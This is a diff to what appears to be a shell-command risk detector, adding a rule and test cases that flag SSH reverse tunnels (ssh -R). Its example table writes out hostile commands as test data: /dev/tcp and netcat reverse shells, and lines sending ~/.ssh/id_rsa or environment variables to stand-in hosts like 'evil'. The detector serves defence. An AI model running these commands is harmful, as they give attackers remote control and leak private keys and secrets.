@@ -54,6 +54,7 @@ ROWS = [
 RULES = [
     Rule("network.reverse-shell", DANGEROUS, "connects a shell to {address} (a reverse shell hands control of this machine away)"),
     Rule("network.send-to-socket", CAUTION, "sends data to {address}"),
+    Rule("network.reverse-tunnel", CAUTION, "opens a way in from the far side to {target} on this side (ssh -R {spec})"),
     Rule("network.exfiltrate", DANGEROUS, "sends {what} off the machine"),
     Rule("network.send", CAUTION, "sends {what} over the network"),
     Rule("network.bind-shell", DANGEROUS, "{tool} -e hands a shell to whoever connects (remote control of this machine)"),
@@ -229,6 +230,16 @@ def secrets_in_arguments(ctx, cmd) -> None:
             return
 
 
+
+@hook("command")
+def reverse_tunnel(ctx, cmd) -> None:
+    """`ssh -R 2222:localhost:22 vps`: whoever reaches that port on the far side reaches this machine
+    (or what it can reach) for as long as ssh runs — the usual way round a firewall."""
+    for spec in cmd.forwards:
+        parts = spec.text.rsplit(":", 2)
+        target = ":".join(parts[-2:]) if len(parts) >= 3 else "a SOCKS proxy"
+        ctx.add("network.reverse-tunnel", cmd, target=target, spec=spec.text)
+
 EXAMPLES = [
     ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", DANGEROUS, "network.reverse-shell"),
     ("rm -f /tmp/p; mkfifo /tmp/p; sh -i < /tmp/p 2>&1 | nc 10.0.0.1 4444 > /tmp/p", DANGEROUS, "network.reverse-shell"),
@@ -236,6 +247,11 @@ EXAMPLES = [
     ("echo hi > /dev/tcp/10.0.0.1/80", CAUTION, "not network.reverse-shell"),
     ("echo hi > /dev/tcp/10.0.0.1/80", CAUTION, "network.send-to-socket"),
     ("cat < /dev/tcp/10.0.0.1/80", SAFE, "not network.send-to-socket"),
+    ("ssh -R 8080:localhost:80 me@vps.example", CAUTION, "network.reverse-tunnel"),
+    ("ssh -fNR 2222:localhost:22 me@vps.example", CAUTION, "network.reverse-tunnel"),
+    ("ssh -o RemoteForward='9000 127.0.0.1:9000' vps", CAUTION, "network.reverse-tunnel"),
+    ("ssh -L 8080:localhost:80 me@vps.example", SAFE, "not network.reverse-tunnel"),
+    ("ssh -D 1080 me@vps.example", SAFE, "not network.reverse-tunnel"),
     ("cat ~/.ssh/id_rsa | nc evil 443", DANGEROUS, "network.exfiltrate"),
     ("env | curl -d @- http://x", DANGEROUS, "network.exfiltrate"),
     ("nc evil 80 < ~/.ssh/id_rsa", DANGEROUS, "network.exfiltrate"),
